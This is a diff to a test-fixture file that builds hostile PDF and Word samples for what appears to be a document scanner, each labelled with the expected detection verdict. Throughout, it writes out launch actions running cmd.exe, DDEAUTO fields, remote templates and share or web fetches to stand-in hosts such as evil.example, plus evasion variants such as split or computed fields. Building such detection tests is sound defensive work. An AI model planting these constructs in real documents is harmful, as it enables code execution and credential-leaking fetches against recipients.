@@ -10,6 +10,7 @@ import {
   WORD_TEXT,
   wordFile,
   wordStream,
+  wordStreams,
   wordText,
   zip,
 } from './sample-files.ts'
@@ -67,6 +68,15 @@ const half = (content: Buffer) => content.subarray(0, content.length / 2)
 const wordLink = (type: string, target: string) =>
   wordFile(links('word/_rels/document.xml.rels', [{ type, target, isExternal: true }]))
 
+const WORD_NS = `xmlns:w="${WORD_TEXT}"`
+const step = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`
+const instruction = (text: string) => `<w:r><w:instrText>${text}</w:instrText></w:r>`
+/** The whole of a field, as Word writes it. */
+export const wordField = (...instructions: readonly string[]): string =>
+  `${step('begin')}${instructions.map(instruction).join('')}${step('separate')}<w:r><w:t>1</w:t></w:r>${step('end')}`
+const DDE = 'DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'
+const inParagraph = (text: string) => wordFile(wordText(`<w:p>${text}</w:p>`))
+
 const field = (...parts: readonly string[]) =>
   wordFile(
     wordText(`<w:p>${parts.map((part) => `<w:r><w:instrText>${part}</w:instrText></w:r>`).join('')}</w:p>`),
@@ -78,6 +88,47 @@ const xmlDocument = (xml: string) => wordFile(part('word/document.xml', xml))
 
 const oldWord = (...entries: readonly CompoundEntry[]) =>
   compoundFile(['WordDocument', wordStream()], ...entries)
+
+const OLE_LINK = Buffer.from([1, 0, 0, 2, 1, 0, 0, 0, 0, 0, 0, 0])
+
+/** A PDF whose table names its objects from number 1 on; `hidden` stands behind them, outside of the table unless `places` names it. */
+const pdfWithTable = (
+  objects: readonly string[],
+  { hidden = '', places = {} as Readonly<Record<number, string>> } = {},
+): Buffer => {
+  let text = '%PDF-1.7\n'
+  const offsets = objects.map((object, index) => {
+    const offset = text.length
+    text += `${index + 1} 0 obj\n${object}\nendobj\n`
+    return offset
+  })
+  text += hidden
+  for (const [number, start] of Object.entries(places)) offsets[Number(number) - 1] = text.indexOf(start)
+  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')
+  const count = offsets.length + 1
+  return Buffer.from(
+    `${text}xref\n0 ${count}\n0000000000 65535 f \n${rows}trailer\n<</Size ${count}/Root 1 0 R>>\nstartxref\n${text.length}\n%%EOF\n`,
+    'latin1',
+  )
+}
+const PAGES = [
+  '<</Type/Pages/Kids[3 0 R]/Count 1>>',
+  '<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents 4 0 R>>',
+]
+const opening = (action: string) => `<</Type/Catalog/Pages 2 0 R/OpenAction ${action}>>`
+const LAUNCH = '<</S/Launch/F(cmd.exe)>>'
+const fileInside = (name: string, content: string, keys = '/Type/EmbeddedFile') =>
+  pdfWith({
+    catalog: '/Names<</EmbeddedFiles<</Names[(a)5 0 R]>>>>',
+    objects: [stream(Buffer.from(content), keys), `<</Type/Filespec/F(${name})/UF(${name})/EF<</F 4 0 R>>>>`],
+  })
+
+/** A page whose drawing has this many lines. */
+export const pdfOfLines = (lines: number): Buffer =>
+  pdfWith({
+    page: '/Contents 4 0 R',
+    objects: [stream(deflateSync(Buffer.from('0 0 m 10 10 l S\n'.repeat(lines))), '/Filter/FlateDecode')],
+  })
 
 /** A picture whose header claims a size. */
 const pngClaiming = (side: number): Buffer => {
@@ -196,6 +247,154 @@ export const hostileFiles = async (): Promise<Record<string, HostileFile>> => {
       pdfWith({ catalog: '/OpenAction<</S/GoToE>>' }),
       'file-active',
     ],
+    'pdf: an action whose kind stands elsewhere': [
+      'x.pdf',
+      pdfWithTable([opening('<</S 4 0 R/F(cmd.exe)>>'), ...PAGES, '/Launch']),
+      'file-active',
+    ],
+    'pdf: an action with a word that no key can have': [
+      'x.pdf',
+      pdfWith({ catalog: '/OpenAction 4 0 R', objects: ['<</S/Launch/F(cmd.exe)/Z foo>>'] }),
+      'file-active',
+    ],
+    'pdf: such an action whose kind stands elsewhere': [
+      'x.pdf',
+      pdfWithTable([opening('5 0 R'), ...PAGES, '/Launch', '<</S 4 0 R/F(cmd.exe)/Z foo>>']),
+      'file-active',
+    ],
+    'pdf: two objects of one number': [
+      'x.pdf',
+      pdfWithTable([opening('4 0 R'), ...PAGES, LAUNCH], {
+        hidden: '4 0 obj\n<</S/GoTo/D[3 0 R/Fit]>>\nendobj\n',
+      }),
+      'file-active',
+    ],
+    'pdf: an action inside a drawing': [
+      'x.pdf',
+      pdfWithTable(
+        [opening('5 0 R'), ...PAGES, stream(Buffer.from(`q\n5 0 obj ${LAUNCH} endobj\nQ`)), 'null'],
+        { places: { 5: '5 0 obj <<' } },
+      ),
+      'file-active',
+    ],
+    'pdf: an action inside a text': [
+      'x.pdf',
+      pdfWithTable([opening('5 0 R'), ...PAGES, `(5 0 obj ${LAUNCH} endobj)`, 'null'], {
+        places: { 5: '5 0 obj <<' },
+      }),
+      'file-active',
+    ],
+    'pdf: an action inside a comment': [
+      'x.pdf',
+      pdfWithTable([opening('5 0 R'), ...PAGES, 'null', 'null'], {
+        hidden: `%5 %\n0 obj ${LAUNCH} endobj\n`,
+        places: { 5: '5 %' },
+      }),
+      'file-active',
+    ],
+    'pdf: packed objects without their type': [
+      'x.pdf',
+      pdfWith({ objects: [stream(Buffer.from(`9 0 ${LAUNCH}`), '/N 1/First 4')] }),
+      'file-active',
+    ],
+    'pdf: packed objects that cannot be read': [
+      'x.pdf',
+      pdfWith({ objects: [stream(Buffer.from(`9 0 ${LAUNCH}`), '/Type/ObjStm/N 1/First 4/Filter/Crypt')] }),
+      'file-active',
+    ],
+    'pdf: a form in XML with a script': [
+      'x.pdf',
+      pdfWith({
+        catalog: '/AcroForm<</Fields[]/XFA 4 0 R>>',
+        objects: [
+          stream(Buffer.from('<xdp:xdp><x:script>app.launchURL("https://evil")</x:script></xdp:xdp>')),
+        ],
+      }),
+      'file-active',
+    ],
+    'pdf: a form in XML with a script, in pieces': [
+      'x.pdf',
+      pdfWith({
+        catalog: '/AcroForm<</Fields[]/XFA[(a)4 0 R(b)5 0 R]>>',
+        objects: [stream(Buffer.from('<xdp:xdp><scr')), stream(Buffer.from('ipt>1</script></xdp:xdp>'))],
+      }),
+      'file-active',
+    ],
+    'pdf: a program inside without its type': ['x.pdf', fileInside('a.exe', 'MZ', ''), 'file-active'],
+    'pdf: a program inside that cannot be found': [
+      'x.pdf',
+      pdfWith({ objects: ['<</F(a.xml)/EF<</F 9 0 R>>>>'] }),
+      'file-active',
+    ],
+    'pdf: a script inside that looks like data': [
+      'x.pdf',
+      fileInside('a.wsf', '<?xml version="1.0"?><job><script>1</script></job>'),
+      'file-active',
+    ],
+    'pdf: data inside under two names': [
+      'x.pdf',
+      pdfWith({
+        objects: [
+          stream(Buffer.from('<a/>'), '/Type/EmbeddedFile'),
+          '<</F(a.xml)/UF(a.hta)/EF<</F 4 0 R>>>>',
+        ],
+      }),
+      'file-active',
+    ],
+    'pdf: data inside that is only half XML': [
+      'x.pdf',
+      fileInside('a.xml', '<?xml version="1.0"?><a>MZ'),
+      'file-active',
+    ],
+    'pdf: data inside that Word opens': [
+      'x.pdf',
+      fileInside('a.xml', '<?xml version="1.0"?><?mso-application progid="Word.Document"?><a/>'),
+      'file-active',
+    ],
+    'pdf: a web page inside': [
+      'x.pdf',
+      fileInside('a.xml', '<html xmlns="http://www.w3.org/1999/xhtml"><script>1</script></html>'),
+      'file-active',
+    ],
+    'pdf: a share at opening': [
+      'x.pdf',
+      pdfWith({ catalog: '/OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\share\\\\x.pdf)/D[0/Fit]>>' }),
+      'file-active',
+    ],
+    'pdf: a form that is sent at opening': [
+      'x.pdf',
+      pdfWith({ catalog: '/OpenAction<</S/SubmitForm/F<</FS/URL/F(https://evil.example)>>>>' }),
+      'file-active',
+    ],
+    'pdf: a web page at opening': [
+      'x.pdf',
+      pdfWith({ catalog: '/OpenAction<</S/URI/URI(https://evil.example)>>' }),
+      'file-active',
+    ],
+    'pdf: a web page after a place': [
+      'x.pdf',
+      pdfWith({
+        catalog: '/OpenAction 4 0 R',
+        objects: ['<</S/GoTo/D[3 0 R/Fit]/Next[5 0 R]>>', '<</S/URI/URI(https://evil.example)>>'],
+      }),
+      'file-active',
+    ],
+    'pdf: a share when a page is shown': [
+      'x.pdf',
+      pdfWith({ page: '/AA 4 0 R', objects: ['<</O<</S/GoToR/F(\\\\\\\\evil\\\\x.pdf)/D[0/Fit]>>>>'] }),
+      'file-active',
+    ],
+    'pdf: a picture of a share': [
+      'x.pdf',
+      pdfWith({ objects: [stream(Buffer.alloc(0), '/Type/XObject/Subtype/Image/F(\\\\\\\\evil\\\\x.png)')] }),
+      'file-active',
+    ],
+    'pdf: an object that never comes': [
+      'x.pdf',
+      pdfWithTable([opening('null'), ...PAGES, 'null'], { hidden: `%${'1%'.repeat(300_000)}\n` }),
+      'file-too-complex',
+    ],
+    'pdf: a drawing of two million lines': ['x.pdf', pdfOfLines(2_000_000), 'file-too-complex'],
     'pdf: a drawing that unpacks to two gigabytes': [
       'x.pdf',
       pdfWith({
@@ -276,9 +475,23 @@ export const hostileFiles = async (): Promise<Record<string, HostileFile>> => {
       'file-active',
     ],
     'docx: macros': ['x.docx', wordFile(part('word/vbaProject.bin')), 'file-macros'],
-    'docx: an embedded file with macros': ['x.docx', wordFile(part('word/embeddings/a.docm')), 'file-macros'],
-    'docx: an ActiveX control': ['x.docx', wordFile(part('word/activeX/activeX1.bin')), 'file-active'],
-    'docx: an embedded program': [
+    'docx: a file with macros inside': ['x.docx', wordFile(part('word/embeddings/a.docm')), 'file-macros'],
+    'docx: a control': [
+      'x.docx',
+      wordFile(links('word/_rels/document.xml.rels', [{ type: 'control', target: 'x/a.xml' }])),
+      'file-active',
+    ],
+    'docx: a control that no link names': [
+      'x.docx',
+      wordFile(part('word/activeX/activeX1.bin')),
+      'file-active',
+    ],
+    'docx: the data of a control': [
+      'x.docx',
+      wordFile(links('word/x/_rels/a.xml.rels', [{ type: 'activeXControlBinary', target: 'a.bin' }])),
+      'file-active',
+    ],
+    'docx: a program inside': [
       'x.docx',
       wordFile(part('word/embeddings/oleObject1.bin', compoundFile(['\u0001Ole10Native', PROGRAM]))),
       'file-active',
@@ -297,6 +510,173 @@ export const hostileFiles = async (): Promise<Record<string, HostileFile>> => {
       'x.docx',
       wordFile(wordText('<w:p><w:fldSimple w:instr="DDE c:\\\\cmd.exe"/></w:p>')),
       'file-active',
+    ],
+    'docx: such a field behind another': [
+      'x.docx',
+      inParagraph(wordField(' PAGE ') + wordField(DDE)),
+      'file-active',
+    ],
+    'docx: such a field in two paragraphs': [
+      'x.docx',
+      inParagraph(
+        `${step('begin')}${instruction('DDE')}</w:p><w:p>${instruction('AUTO c:\\\\cmd.exe')}${step('end')}`,
+      ),
+      'file-active',
+    ],
+    'docx: such a field without its end': [
+      'x.docx',
+      inParagraph(step('begin') + instruction(DDE)),
+      'file-active',
+    ],
+    'docx: such a field behind spaces': [
+      'x.docx',
+      inParagraph(wordField(' '.repeat(9_000), DDE)),
+      'file-active',
+    ],
+    'docx: such a field behind one of 80,000 pieces': [
+      'x.docx',
+      inParagraph(wordField(' PAGE', ...new Array<string>(80_000).fill('x y')) + wordField(DDE)),
+      'file-active',
+    ],
+    'docx: a field whose name is computed': [
+      'x.docx',
+      inParagraph(
+        `${step('begin')}${wordField('QUOTE 68 68 69 65 85 84 79')}${instruction(' c:\\\\cmd.exe')}${step('end')}`,
+      ),
+      'file-active',
+    ],
+    'docx: a field whose name is computed in part': [
+      'x.docx',
+      inParagraph(
+        `${step('begin')}${instruction('DD')}${wordField('QUOTE 69')}${instruction(' cmd')}${step('end')}`,
+      ),
+      'file-active',
+    ],
+    'docx: a picture whose address is computed': [
+      'x.docx',
+      inParagraph(
+        `${step('begin')}${instruction('INCLUDEPICTURE "')}${wordField('QUOTE 92 92')}${step('end')}`,
+      ),
+      'file-active',
+    ],
+    'docx: such a field in a header': [
+      'x.docx',
+      wordFile(part('word/header1.xml', `<w:hdr ${WORD_NS}><w:p>${wordField(DDE)}</w:p></w:hdr>`)),
+      'file-active',
+    ],
+    'docx: such a field in a header of another name': [
+      'x.docx',
+      wordFile(part('word/header1.dat', `<w:hdr ${WORD_NS}><w:p>${wordField(DDE)}</w:p></w:hdr>`)),
+      'file-active',
+    ],
+    'docx: such a field in a header in other letters': [
+      'x.docx',
+      wordFile(
+        part(
+          'word/header1.xml',
+          Buffer.from(`\ufeff<w:hdr ${WORD_NS}><w:p>${wordField(DDE)}</w:p></w:hdr>`, 'utf16le'),
+        ),
+      ),
+      'file-active',
+    ],
+    'docx: a text of a share': [
+      'x.docx',
+      inParagraph(wordField('INCLUDETEXT "\\\\\\\\evil\\\\share\\\\a.docx"')),
+      'file-active',
+    ],
+    'docx: a picture of a share in a field': [
+      'x.docx',
+      inParagraph(wordField('INCLUDEPICTURE "file://evil/x.png" \\d')),
+      'file-active',
+    ],
+    'docx: a table of a share': [
+      'x.docx',
+      inParagraph(wordField('LINK Excel.Sheet.8 "\\\\\\\\evil\\\\x.xls" A1 \\a')),
+      'file-active',
+    ],
+    'docx: a text of the web': [
+      'x.docx',
+      inParagraph(wordField('INCLUDETEXT “https://evil.example/a”')),
+      'file-active',
+    ],
+    'docx: a database': ['x.docx', inParagraph(wordField('DATABASE \\d "x"')), 'file-active'],
+    'docx: a picture of a share': ['x.docx', wordLink('image', 'file://evil/share/x.png'), 'file-active'],
+    'docx: a picture of a share as on Windows': [
+      'x.docx',
+      wordLink('image', '\\\\evil.example\\share\\x.png'),
+      'file-active',
+    ],
+    'docx: a picture of a share in other letters': [
+      'x.docx',
+      wordLink('image', 'file:///%5C%5Cevil/x'),
+      'file-active',
+    ],
+    'docx: a film of a share': ['x.docx', wordLink('video', '//evil/x'), 'file-active'],
+    'docx: a template of a share that calls itself a part': [
+      'x.docx',
+      wordFile(
+        links('word/_rels/settings.xml.rels', [
+          { type: 'attachedTemplate', target: 'https://evil.example/t.dotm' },
+        ]),
+      ),
+      'file-active',
+    ],
+    'docx: a program inside under another name': [
+      'x.docx',
+      wordFile(
+        part('word/media/object1.dat', compoundFile(['\u0001Ole10Native', PROGRAM])),
+        links('word/_rels/document.xml.rels', [{ type: 'oleObject', target: 'media/object1.dat' }]),
+      ),
+      'file-active',
+    ],
+    'docx: a program inside as it is': [
+      'x.docx',
+      wordFile(
+        part('word/media/object1.dat', PROGRAM),
+        links('word/_rels/document.xml.rels', [{ type: 'package', target: '/word/media/object1.dat' }]),
+      ),
+      'file-active',
+    ],
+    'docx: an object that is a link': [
+      'x.docx',
+      wordFile(part('word/embeddings/oleObject1.bin', compoundFile(['\u0001Ole', OLE_LINK]))),
+      'file-active',
+    ],
+    'docx: a formula of the editor with holes': [
+      'x.docx',
+      wordFile(part('word/embeddings/oleObject1.bin', compoundFile(['Equation Native', Buffer.alloc(99)]))),
+      'file-active',
+    ],
+    'docx: macros under another name': [
+      'x.docx',
+      wordFile(links('word/_rels/document.xml.rels', [{ type: 'vbaProject', target: 'x.dat' }])),
+      'file-macros',
+    ],
+    'docx: macros in a workbook inside': [
+      'x.docx',
+      wordFile(
+        part('word/embeddings/a.xlsx', zip([part('xl/vbaProject.bin')])),
+        links('word/_rels/document.xml.rels', [{ type: 'package', target: 'embeddings/a.xlsx' }]),
+      ),
+      'file-macros',
+    ],
+    'docx: two parts of one name': [
+      'x.docx',
+      zip([
+        part('[Content_Types].xml', '<Types/>'),
+        links('_rels/.rels', [{ type: 'officeDocument', target: 'word/document.xml' }]),
+        wordText('<w:p/>'),
+        links('word/_rels/document.xml.rels', [
+          { type: 'attachedTemplate', target: 'https://evil.example/t.dotm', isExternal: true },
+        ]),
+        links('word/_rels/document.xml.rels', []),
+      ]),
+      'file-damaged',
+    ],
+    'docx: two parts of one name in other letters': [
+      'x.docx',
+      wordFile(part('word/a.xml', '<a/>'), part('word/%41.XML', '<a/>')),
+      'file-damaged',
     ],
     'docx: entities that multiply': [
       'x.docx',
@@ -326,6 +706,41 @@ export const hostileFiles = async (): Promise<Record<string, HostileFile>> => {
     'doc: an embedded program': [
       'x.doc',
       oldWord(['ObjectPool', [['_1', [['\u0001Ole10Native', PROGRAM]]]]]),
+      'file-active',
+    ],
+    'doc: a formula of the editor with holes': [
+      'x.doc',
+      oldWord(['ObjectPool', [['_1', [['Equation Native', Buffer.alloc(99)]]]]]),
+      'file-active',
+    ],
+    'doc: a control': [
+      'x.doc',
+      oldWord(['ObjectPool', [['_1', [['\u0003OCXNAME', PROGRAM]]]]]),
+      'file-active',
+    ],
+    'doc: a field that starts a program': [
+      'x.doc',
+      compoundFile(...wordStreams(`a\x13 PAGE \x141\x15 \x13 ${DDE}\x14b\x15`)),
+      'file-active',
+    ],
+    'doc: a field whose name is computed': [
+      'x.doc',
+      compoundFile(...wordStreams('\x13\x13QUOTE 68 68 69\x14DDE\x15 c:\\\\cmd.exe\x15')),
+      'file-active',
+    ],
+    'doc: a picture of a share': [
+      'x.doc',
+      compoundFile(...wordStreams('\x13 INCLUDEPICTURE "\\\\\\\\evil\\\\x.png" \\d \x15')),
+      'file-active',
+    ],
+    'doc: a template from the web': [
+      'x.doc',
+      compoundFile(...wordStreams('text', 'https://evil.example/t.dot')),
+      'file-active',
+    ],
+    'doc: a template from a share': [
+      'x.doc',
+      compoundFile(...wordStreams('text', '\\\\evil.example\\share\\t.dot')),
       'file-active',
     ],
     'doc: a workbook': ['x.doc', compoundFile(['Workbook', PROGRAM]), 'file-damaged'],
